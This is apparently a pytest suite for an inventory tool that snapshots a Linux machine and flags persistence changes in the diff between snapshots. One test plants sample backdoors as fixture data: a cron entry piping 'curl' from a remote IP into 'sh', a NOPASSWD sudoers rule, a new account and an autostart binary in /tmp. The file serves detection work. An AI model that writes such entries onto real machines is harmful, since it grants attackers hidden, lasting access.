"""Snapshots, their diff and the ways back in: collectors over a real temporary root, and one real run."""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import threading
from functools import partial
from pathlib import Path

import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.canonical import canonical_bytes
from agent.capture.inventory import (
    ERROR_PREFIX,
    default_collectors,
    diff_snapshots,
    linux_login,
    linux_system,
    summary_records,
    take_snapshot,
)
from agent.capture.inventory.common import collect_listening
from agent.capture.inventory.diff import RULES
from agent.capture.inventory.machine import Machine

DATA = Path(__file__).resolve().parent.parent / "data" / "inventory"


def change(changes, category, item):
    found = [c for c in changes if c["category"] == category and c["item"] == item]
    assert len(found) == 1, f"expected one change of {item!r} in {category}, got {found}"
    return found[0]


# -- the diff and its rules ----------------------------------------------------------


def test_diff_ops_and_details():
    before = {"packages": {"dpkg:vim": {"source": "dpkg", "name": "vim", "version": "1"},
                           "dpkg:nano": {"source": "dpkg", "name": "nano", "version": "7"}}}
    after = {"packages": {"dpkg:vim": {"source": "dpkg", "name": "vim", "version": "2"},
                          "dpkg:curl": {"source": "dpkg", "name": "curl", "version": "8"}}}
    changes = diff_snapshots(before, after)
    assert [(c["op"], c["item"]) for c in changes] == [("added", "dpkg:curl"), ("removed", "dpkg:nano"), ("changed", "dpkg:vim")]
    vim = change(changes, "packages", "dpkg:vim")
    assert vim["detail"] == {"before": before["packages"]["dpkg:vim"], "after": after["packages"]["dpkg:vim"]}
    assert not any(c["way_back_in"] for c in changes) and all(c["why"] is None for c in changes)
    assert diff_snapshots(after, after) == []


def test_diff_order_is_stable():
    before = {"users": {}, "groups": {}}
    after = {"users": {"b": {"source": "p"}, "a": {"source": "p"}}, "groups": {"z": {"source": "g", "admin": False}}}
    assert [(c["category"], c["item"]) for c in diff_snapshots(before, after)] == [("groups", "z"), ("users", "a"), ("users", "b")]


def test_remote_access_package_is_a_way_back_in():
    before = {"packages": {}}
    after = {"packages": {"dpkg:anydesk": {"source": "dpkg", "name": "anydesk", "version": "6.3"},
                          "pip:pyngrok (/usr/local/lib/python3.11/dist-packages)": {"source": "/usr/local/lib/python3.11/dist-packages", "name": "pyngrok", "version": "7"},
                          "dpkg:htop": {"source": "dpkg", "name": "htop", "version": "3"}}}
    changes = diff_snapshots(before, after)
    anydesk = change(changes, "packages", "dpkg:anydesk")
    assert anydesk["way_back_in"] and "AnyDesk" in anydesk["why"]
    assert change(changes, "packages", "pip:pyngrok (/usr/local/lib/python3.11/dist-packages)")["way_back_in"]
    assert not change(changes, "packages", "dpkg:htop")["way_back_in"]


@pytest.mark.parametrize(
    ("category", "before", "after", "flagged"),
    [
        ("services", None, {"enabled": "enabled", "running": None}, True),
        ("services", None, {"enabled": None, "running": True}, True),
        ("services", None, {"enabled": "disabled", "running": False}, False),
        ("services", {"enabled": "disabled", "running": False}, {"enabled": "enabled", "running": False}, True),
        ("services", {"enabled": "enabled", "running": False}, {"enabled": "enabled", "running": True}, False),
        ("services", {"enabled": "enabled", "running": True}, None, False),
        ("scheduled", None, {"kind": "cron", "schedule": "* * * * *", "command": "x"}, True),
        ("scheduled", None, {"kind": "cron-script", "schedule": "daily"}, True),
        ("scheduled", None, {"kind": "timer", "enabled": "enabled", "running": None}, True),
        ("scheduled", {"kind": "timer", "enabled": "disabled"}, {"kind": "timer", "enabled": "enabled"}, True),
        ("scheduled", {"kind": "cron", "command": "x"}, None, False),
        ("autostart", None, {"name": "x", "exec": "/tmp/x", "enabled": True}, True),
        ("autostart", None, {"name": "x", "exec": "/tmp/x", "enabled": False}, False),
        ("autostart", {"name": "x", "exec": "/a", "enabled": True}, {"name": "x", "exec": "/b", "enabled": True}, True),
        ("autostart", {"name": "x", "exec": "/a", "enabled": False}, {"name": "x", "exec": "/a", "enabled": True}, True),
        ("autostart", {"name": "x", "exec": "/a", "enabled": True}, {"name": "y", "exec": "/a", "enabled": True}, False),
        ("users", None, {"uid": 1002, "shell": "/bin/bash"}, True),
        ("users", {"uid": 1002, "shell": "/bin/bash"}, {"uid": 0, "shell": "/bin/bash"}, True),
        ("users", {"uid": 5, "shell": "/usr/sbin/nologin"}, {"uid": 5, "shell": "/bin/sh"}, True),
        ("users", {"uid": 5, "shell": "/bin/sh"}, {"uid": 5, "shell": "/bin/false"}, False),
        ("users", {"uid": 5, "shell": "/bin/sh"}, None, False),
        ("groups", {"gid": 27, "members": [], "admin": True}, {"gid": 27, "members": ["eve"], "admin": True}, True),
        ("groups", {"gid": 100, "members": [], "admin": False}, {"gid": 100, "members": ["eve"], "admin": False}, False),
        ("groups", {"gid": 27, "members": ["eve"], "admin": True}, {"gid": 27, "members": [], "admin": True}, False),
        ("groups", None, {"gid": 0, "members": [], "admin": False}, True),
        ("groups", None, {"gid": 1500, "members": [], "admin": False}, False),
        ("authorized_keys", None, {"user": "root", "fingerprint": "SHA256:x"}, True),
        ("authorized_keys", {"user": "root", "options": ""}, {"user": "root", "options": "from=\"*\""}, True),
        ("authorized_keys", {"user": "root", "fingerprint": "SHA256:x"}, None, False),
        ("sudoers", None, {"rule": "eve ALL=(ALL) NOPASSWD: ALL"}, True),
        ("sudoers", {"rule": "eve ALL=(ALL) ALL"}, None, False),
        ("listening", None, {"proto": "tcp", "port": 4444, "process": "nc"}, True),
        ("listening", None, {"proto": "tcp", "port": 45000, "process": None}, True),
        ("listening", None, {"proto": "udp", "port": 1194, "process": None}, True),
        ("listening", None, {"proto": "udp", "port": 43512, "process": "firefox"}, False),
        ("listening", {"proto": "tcp", "port": 22, "process": "sshd"}, None, False),
    ],
)
def test_way_back_in_rules(category, before, after, flagged):
    item = "the-item"
    b = {category: {item: {"source": "s", **before}} if before else {}}
    a = {category: {item: {"source": "s", **after}} if after else {}}
    (c,) = diff_snapshots(b, a)
    assert c["way_back_in"] is flagged
    assert (c["why"] is not None) is flagged
    if flagged:
        assert isinstance(c["why"], str) and len(c["why"]) > 10


def test_why_names_who_was_made_an_administrator():
    b = {"groups": {"sudo": {"source": "g", "gid": 27, "members": ["alice"], "admin": True}}}
    a = {"groups": {"sudo": {"source": "g", "gid": 27, "members": ["alice", "eve", "mallory"], "admin": True}}}
    (c,) = diff_snapshots(b, a)
    assert c["why"] == "eve, mallory were added to sudo, which grants administrator rights"


def test_failed_sources_are_ignored_not_reported_as_removed():
    before = {
        "packages": {"dpkg:bash": {"source": "dpkg", "name": "bash", "version": "5"},
                     "pip:x (/l)": {"source": "/l", "name": "x", "version": "1"}},
        "users": {"root": {"source": "/etc/passwd", "uid": 0}},
    }
    after = {
        "packages": {ERROR_PREFIX + "dpkg": {"source": "dpkg", "error": "dpkg-query took longer than 30 s"},
                     "pip:y (/l)": {"source": "/l", "name": "y", "version": "1"}},
        "users": {ERROR_PREFIX + "users": {"source": "users", "error": "PermissionError"}},
    }
    changes = diff_snapshots(before, after)
    assert sorted(c["item"] for c in changes) == ["pip:x (/l)", "pip:y (/l)"]


def test_a_category_missing_on_one_side_is_not_diffed():
    assert diff_snapshots({"users": {"root": {"source": "p"}}}, {}) == []


# -- taking a snapshot ---------------------------------------------------------------


def test_summary_records_count_items_hash_them_and_carry_errors():
    snap = {
        "users": {"root": {"source": "/etc/passwd", "uid": 0}, "b\u00e9a": {"source": "/etc/passwd", "uid": 1000}},
        "packages": {ERROR_PREFIX + "dpkg": {"source": "dpkg", "error": "dpkg-query exited with status 2"}},
    }
    records = summary_records(snap, "before")
    assert [r["category"] for r in records] == ["packages", "users"]
    packages, users = records
    assert users["items"] == 2 and users["phase"] == "before" and "errors" not in users
    expected = hashlib.sha256(canonical_bytes(sorted(snap["users"].items()))).hexdigest()
    assert users["sha256"] == expected
    assert packages["items"] == 0
    assert packages["errors"] == [{"source": "dpkg", "error": "dpkg-query exited with status 2"}]
    for r in records:
        canonical_bytes(r)  # fit for the journal


def test_collector_failures_become_error_entries():
    release = threading.Event()

    def stuck():
        release.wait(30)
        return {}

    def broken():
        raise RuntimeError("boom")

    try:
        snap = take_snapshot({"ok": lambda: {"a": {"source": "s", "n": 1}}, "broken": broken, "stuck": stuck}, timeout=0.5)
    finally:
        release.set()
    assert list(snap) == ["ok", "broken", "stuck"]
    assert snap["ok"] == {"a": {"source": "s", "n": 1}}
    assert snap["broken"] == {ERROR_PREFIX + "broken": {"source": "broken", "error": "RuntimeError: boom"}}
    assert snap["stuck"] == {ERROR_PREFIX + "stuck": {"source": "stuck", "error": "took longer than 0.5 s"}}
    assert summary_records(snap, "after")[0]["errors"] == [{"source": "broken", "error": "RuntimeError: boom"}]


def test_snapshot_details_are_made_fit_for_the_journal():
    snap = take_snapshot({"files": lambda: {"bad\udcffname": {"source": "s", "tags": {"b", "a"}, "size": 1.5}}})
    ((key, details),) = snap["files"].items()
    assert key == "bad\\udcffname"
    assert details == {"source": "s", "tags": ["a", "b"], "size": "1.5"}
    canonical_bytes(summary_records(snap, "before"))


def test_other_oses_get_only_the_portable_collectors():
    assert set(default_collectors("darwin")) == {"listening", "remote_access"}
    assert set(default_collectors("win32")) == {"listening", "remote_access"}
    assert set(default_collectors("linux")) == {
        "packages", "services", "scheduled", "autostart", "users", "groups", "authorized_keys", "sudoers",
        "shell_startup", "pam", "preload", "listening", "remote_access",
    }


# -- Linux collectors over a real temporary root -------------------------------------


@pytest.fixture
def root(tmp_path):
    """A small machine under tmp_path: /etc files from tests/data/inventory, homes for alice and bob."""
    etc = tmp_path / "etc"
    for sub in ("cron.d", "cron.daily", "xdg/autostart", "sudoers.d", "ssh", "init.d", "rc2.d"):
        (etc / sub).mkdir(parents=True)
    homes = {name: tmp_path / "home" / name for name in ("alice", "bob")}
    for home in homes.values():
        (home / ".ssh").mkdir(parents=True)
        (home / ".config" / "autostart").mkdir(parents=True)
    shutil.copy(DATA / "passwd", etc / "passwd")
    shutil.copy(DATA / "group", etc / "group")
    shutil.copy(DATA / "crontab", etc / "crontab")
    shutil.copy(DATA / "sudoers", etc / "sudoers")
    (etc / "sudoers.d" / "90-ops").write_text("%ops ALL=(ALL) ALL\n")
    (etc / "sudoers.d" / "README.txt").write_text("bob ALL=(ALL) ALL\n")  # sudo skips names with a dot
    (etc / "ssh" / "sshd_config").write_text("PasswordAuthentication no\n")
    shutil.copy(DATA / "authorized_keys", homes["alice"] / ".ssh" / "authorized_keys")
    shutil.copy(DATA / "autostart-nextcloud.desktop", etc / "xdg" / "autostart" / "nextcloud.desktop")
    (etc / "cron.daily" / "logrotate").write_text("#!/bin/sh\n")
    (etc / "init.d" / "ssh").write_text("#!/bin/sh\n")
    (etc / "init.d" / "old-daemon").write_text("#!/bin/sh\n")
    os.symlink("../init.d/ssh", etc / "rc2.d" / "S01ssh")
    spool = tmp_path / "var" / "spool" / "cron" / "crontabs"
    spool.mkdir(parents=True)
    shutil.copy(DATA / "crontab.user", spool / "alice")
    return {"etc": etc, "homes": homes, "spool": spool, "tmp": tmp_path, "machine": Machine(str(tmp_path))}


def file_collectors(m: Machine):
    return {
        "users": partial(linux_login.collect_users, m),
        "groups": partial(linux_login.collect_groups, m),
        "authorized_keys": partial(linux_login.collect_authorized_keys, m),
        "sudoers": partial(linux_login.collect_sudoers, m),
        "scheduled": partial(linux_system.collect_scheduled, m),
        "autostart": partial(linux_system.collect_autostart, m),
    }


def test_collectors_read_the_files(root):
    snap = take_snapshot(file_collectors(root["machine"]))
    alice_keys = "/home/alice/.ssh/authorized_keys"
    assert snap["users"]["alice"]["admin_groups"] == ["sudo"]
    assert snap["groups"]["sudo"]["members"] == ["alice"]
    keys = {k: v for k, v in snap["authorized_keys"].items() if v["source"] == alice_keys}
    assert len(keys) == 6 and all(v["user"] == "alice" for v in keys.values())
    assert any(k.endswith(" #2") for k in keys)  # the same key again, as a cert-authority
    sudo_files = {v["source"] for v in snap["sudoers"].values()}
    assert sudo_files == {"/etc/sudoers", "/etc/sudoers.d/90-ops"}
    assert "/etc/sudoers.d/90-ops: %ops ALL=(ALL) ALL" in snap["sudoers"]
    commands = [v.get("command") for v in snap["scheduled"].values()]
    assert "/usr/bin/php /var/www/cron.php" in commands
    assert any(v.get("user") == "alice" and v["source"] == "/var/spool/cron/crontabs/alice"
               for v in snap["scheduled"].values())
    assert snap["scheduled"]["/etc/cron.daily/logrotate"]["path"] == "/etc/cron.daily/logrotate"
    assert snap["autostart"]["/etc/xdg/autostart/nextcloud.desktop"]["exec"] == "/usr/bin/nextcloud --background"
    assert not any(k.startswith(ERROR_PREFIX) for items in snap.values() for k in items)
    assert "alicePw123" not in repr(snap) and "tok-S3cretBackup" not in repr(snap)


def test_sysv_services_enabled_by_start_links(root):
    items = linux_system._sysv_services(root["machine"])
    assert items["init.d: ssh"]["enabled"] == "enabled"
    assert items["init.d: old-daemon"]["enabled"] == "disabled"


def test_every_way_back_in_left_behind_is_flagged(root, tmp_path):
    alice_key = (DATA / "authorized_keys").read_text().splitlines()[1]  # alice's key, now also for bob
    before = take_snapshot(file_collectors(root["machine"]))

    etc, bob = root["etc"], root["homes"]["bob"]
    with open(etc / "passwd", "a") as f:
        f.write("eve:x:1002:1002::/home/eve:/bin/bash\n")
    (etc / "group").write_text((etc / "group").read_text().replace("sudo:x:27:alice", "sudo:x:27:alice,bob"))
    (bob / ".ssh" / "authorized_keys").write_text(alice_key + "\n")
    (etc / "sudoers.d" / "99-eve").write_text("eve ALL=(ALL) NOPASSWD: ALL\n")
    (etc / "cron.d" / "updater").write_text("*/10 * * * * root curl -s http://198.51.100.7/x | sh\n")
    (bob / ".config" / "autostart" / "helper.desktop").write_text("[Desktop Entry]\nName=Helper\nExec=/tmp/.helper\n")

    after = take_snapshot(file_collectors(root["machine"]))
    changes = diff_snapshots(before, after)
    flagged = {(c["category"], c["op"]) for c in changes if c["way_back_in"]}
    assert flagged == {
        ("users", "added"), ("groups", "changed"), ("authorized_keys", "added"),
        ("sudoers", "added"), ("scheduled", "added"), ("autostart", "added"),
    }
    assert change(changes, "groups", "sudo")["why"] == "bob was added to sudo, which grants administrator rights"
    assert change(changes, "users", "eve")["why"] == "a new user account eve"
    # bob's admin group shows in his user entry too, as a plain change
    bob_change = change(changes, "users", "bob")
    assert bob_change["detail"]["after"]["admin_groups"] == ["sudo"] and not bob_change["way_back_in"]
    assert all(canonical_bytes(c) for c in changes)


def test_a_file_that_is_not_regular_is_an_error_not_a_hang(root):
    keys = root["homes"]["bob"] / ".ssh" / "authorized_keys"
    os.mkfifo(keys)
    snap = take_snapshot({"authorized_keys": partial(linux_login.collect_authorized_keys, root["machine"])}, timeout=20)
    errors = [v for k, v in snap["authorized_keys"].items() if k.startswith(ERROR_PREFIX)]
    assert errors == [{"source": "/home/bob/.ssh/authorized_keys", "error": f"{keys} is not a regular file"}]


# -- listening ports and the real machine -----------------------------------------------


def test_listening_finds_a_real_listening_socket():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        items = collect_listening()
    item = items[f"tcp 127.0.0.1:{port}"]
    assert item["port"] == port and item["proto"] == "tcp"
    assert item["process"] == psutil.Process().name()  # this process ("python", or "pytest" run as a script)


def test_listening_reports_an_error_when_sockets_cannot_be_listed():
    import psutil

    def denied(kind):
        raise psutil.AccessDenied()

    items = collect_listening(net_connections=denied)
    assert list(items) == [ERROR_PREFIX + "sockets"]


@pytest.mark.skipif(not os.path.exists("/etc/passwd"), reason="needs a Linux machine")
def test_real_snapshot_of_this_machine():
    snap = take_snapshot(default_collectors())
    assert set(snap) == set(default_collectors())
    assert snap["users"]["root"]["uid"] == 0
    assert "root" in snap["groups"]
    if shutil.which("dpkg-query"):
        assert snap["packages"]["dpkg:bash"]["name"] == "bash"
    for category in ("users", "groups", "packages"):
        assert not any(k.startswith(ERROR_PREFIX) for k in snap[category]), snap[category]
    records = summary_records(snap, "before")
    assert {r["category"] for r in records} == set(snap)
    assert all(canonical_bytes(r) for r in records)
    assert diff_snapshots(snap, snap) == []


def test_a_symlink_loop_is_an_error_not_a_crash(root):
    keys = root["homes"]["bob"] / ".ssh" / "authorized_keys"
    os.symlink(keys, keys)
    snap = take_snapshot({"authorized_keys": partial(linux_login.collect_authorized_keys, root["machine"])}, timeout=20)
    (error,) = [v for k, v in snap["authorized_keys"].items() if k.startswith(ERROR_PREFIX)]
    assert error["source"] == "/home/bob/.ssh/authorized_keys" and "symbolic links" in error["error"]


# -- properties of the diff ---------------------------------------------------------------

short = st.text("abc!", max_size=3)
details = st.fixed_dictionaries(
    {"source": st.sampled_from(["a", "b"])},
    optional={
        "enabled": st.sampled_from([None, "enabled", "disabled", "static"]), "running": st.none() | st.booleans(),
        "uid": st.none() | st.integers(0, 3), "gid": st.none() | st.integers(0, 3),
        "shell": st.sampled_from(["/bin/sh", "/usr/sbin/nologin", ""]), "members": st.lists(short, max_size=3),
        "admin": st.booleans(), "proto": st.sampled_from(["tcp", "udp"]), "port": st.integers(0, 65535),
        "kind": st.sampled_from(["cron", "timer", "cron-script"]), "exec": short, "name": short, "user": short,
        "fingerprint": short, "rule": short, "process": st.none() | short,
    },
)
items = st.dictionaries(short | st.just(ERROR_PREFIX + "a"), details, max_size=5)
snapshots = st.dictionaries(st.sampled_from(sorted(RULES)), items, max_size=4)


@settings(max_examples=100, deadline=None)
@given(before=snapshots, after=snapshots)
def test_diff_properties(before, after):
    changes = diff_snapshots(before, after)
    assert diff_snapshots(after, after) == []
    for c in changes:
        assert (c["why"] is not None) is c["way_back_in"]
        old, new = before[c["category"]], after[c["category"]]
        assert {"added": c["item"] in new, "removed": c["item"] in old,
                "changed": c["item"] in old and c["item"] in new}[c["op"]]
        failed = {k[len(ERROR_PREFIX):] for side in (old, new) for k in side if k.startswith(ERROR_PREFIX)}
        sides = [c["detail"]] if c["op"] != "changed" else [c["detail"]["before"], c["detail"]["after"]]
        assert all(d["source"] not in failed for d in sides)
        canonical_bytes(c)
